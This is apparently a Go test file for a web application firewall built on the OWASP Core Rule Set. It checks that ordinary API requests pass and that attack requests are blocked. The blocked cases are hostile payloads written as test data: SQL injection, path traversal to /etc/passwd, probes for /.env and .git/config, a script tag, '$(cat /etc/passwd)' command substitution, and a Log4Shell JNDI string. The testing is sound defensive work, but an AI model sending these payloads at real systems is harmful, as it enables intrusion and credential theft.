@@ -1,0 +1,116 @@
+package firewall
+
+import (
+	"io/fs"
+	"net/http/httptest"
+	"net/netip"
+	"slices"
+	"strings"
+	"testing"
+
+	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
+)
+
+func look(t *testing.T, g *Guard, method, target, body string, header ...string) []int {
+	t.Helper()
+	r := httptest.NewRequest(method, target, strings.NewReader(body))
+	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
+	r.Header.Set("Accept", "application/json")
+	if body != "" {
+		r.Header.Set("Content-Type", "application/json")
+	}
+	for i := 0; i < len(header); i += 2 {
+		r.Header.Set(header[i], header[i+1])
+	}
+	rules, err := g.Look(t.Context(), netip.Prefix{}, r, []byte(body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rules
+}
+
+func TestGuard(t *testing.T) {
+	g := NewGuard(Settings{})
+	const lead = "/v1/leads/lead_01h455vb4pex5vsknk084sn02q"
+	for _, x := range [][]string{
+		{"GET", "/v1/leads?limit=50&include=person", ""},
+		{"GET", "/v1/leads?filter=stage:new&cursor=eyJhdCI6MTIzfQ", ""},
+		{"GET", "/console/leads", ""}, {"GET", "/assets/index-BpY8yb0d.js", ""}, {"GET", "/", ""},
+		{"GET", "/v1/leads?q=O'Brien%20or%201=1", ""},
+		{"POST", lead + "/notes", `{"text":"He said: 'select the best flat from the list' -- or 1=1; <script>?"}`},
+		{"POST", "/v1/sessions", `{"email":"ada@example.com","password":"' or 1=1 --<script>"}`},
+		{"POST", "/v1/policies", `{"rules":[{"name":"Big budgets","when":"lead.custom.budget > 100 && lead.source == \"web\" || !(lead.test)","people":{"tags":["o'clock"]}}]}`},
+		{"PATCH", "/v1/users/user_01h455vb4pex5vsknk084sn02q", `{"name":"Siobh\u00e1n O'Neill","phone":"+44 20 7946 0123"}`},
+		{"PUT", "/v1/sources/x", `{"thanks_url":"https://www.example.com/thanks?a=1&b=2","origins":["https://www.example.com"]}`},
+		{"POST", lead + "/person", "{}", "Catchment-Purpose", "I'm calling back; select 1"},
+	} {
+		if rules := look(t, g, x[0], x[1], x[2], x[3:]...); len(rules) > 0 {
+			t.Errorf("%v refused for %v", x, rules)
+		}
+	}
+	for _, x := range [][]string{
+		{"GET", "/v1/leads?cursor=1'%20or%20'1'='1", ""},
+		{"GET", "/v1/leads?cursor=../../../../etc/passwd", ""},
+		{"GET", "/v1/leads/..%2f..%2fetc%2fpasswd", ""},
+		{"GET", "/.env", ""}, {"GET", "/.git/config", ""},
+		{"POST", "/v1/sessions", `{"email":"1' or '1'='1","password":"x"}`},
+		{"POST", "/v1/teams", `{"a":[{"slug":"<script>alert(1)</script>"}]}`},
+		{"POST", "/v1/teams", `{"slug' union select password from users --":1}`},
+		{"POST", "/v1/teams", `{"slug":"$(cat /etc/passwd)"}`},
+		{"GET", "/v1/leads", "", "User-Agent", "sqlmap/1.8"},
+		{"GET", "/v1/leads", "", "X-Forwarded", "${jndi:ldap://x.example/a}"},
+	} {
+		if rules := look(t, g, x[0], x[1], x[2], x[3:]...); len(rules) == 0 {
+			t.Errorf("%v passed", x)
+		}
+	}
+	if g.plain.Load() < 3 || g.spoke.Load() < 9 {
+		t.Errorf("%d plain, %d refused", g.plain.Load(), g.spoke.Load())
+	}
+}
+
+// ofWords are rules that speak of a single word: the name of a command, a
+// function or a table. Alone it does nothing, and it may be somebody's slug.
+var ofWords = []int{930120, 932120, 932260, 934100, 934130, 934160, 942140, 942220, 942270, 944130}
+
+// Of what is plain no other rule of the whole set speaks: words of the set's own
+// lists are tried, and its tests' texts.
+func TestPlainIsNotRefused(t *testing.T) {
+	var words []string
+	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.data")
+	if err != nil || len(files) == 0 {
+		t.Fatal(err)
+	}
+	for _, f := range files {
+		text, err := fs.ReadFile(coreruleset.FS, f)
+		if err != nil {
+			t.Fatal(err)
+		}
+		words = append(words, strings.Fields(string(text))...)
+	}
+	for _, c := range crsCases(t) {
+		if values, ok := c.values(); ok {
+			words = append(words, values...)
+			for _, v := range values {
+				words = append(words, strings.FieldsFunc(v, func(r rune) bool { return !wordRune(r) })...)
+			}
+		}
+	}
+	slices.Sort(words)
+	words = slices.DeleteFunc(slices.Compact(words), func(s string) bool { return !plain(s) })
+	if len(words) < 1000 {
+		t.Fatalf("%d words: this tries nothing", len(words))
+	}
+	j := NewJudge(Settings{Exclude: ofWords})
+	for n := 0; len(words) > 0; words = words[n:] {
+		n = min(200, len(words))
+		if ids := j.Whole(words[:n]); len(ids) > 0 {
+			t.Errorf("%q: %v", words[:n], ids)
+		}
+		if !*allCases {
+			words = words[min(400, len(words)-n):]
+		}
+	}
+}
+
+func wordRune(r rune) bool { return r < 0x80 && (wordByte(byte(r)) || r == '-') }
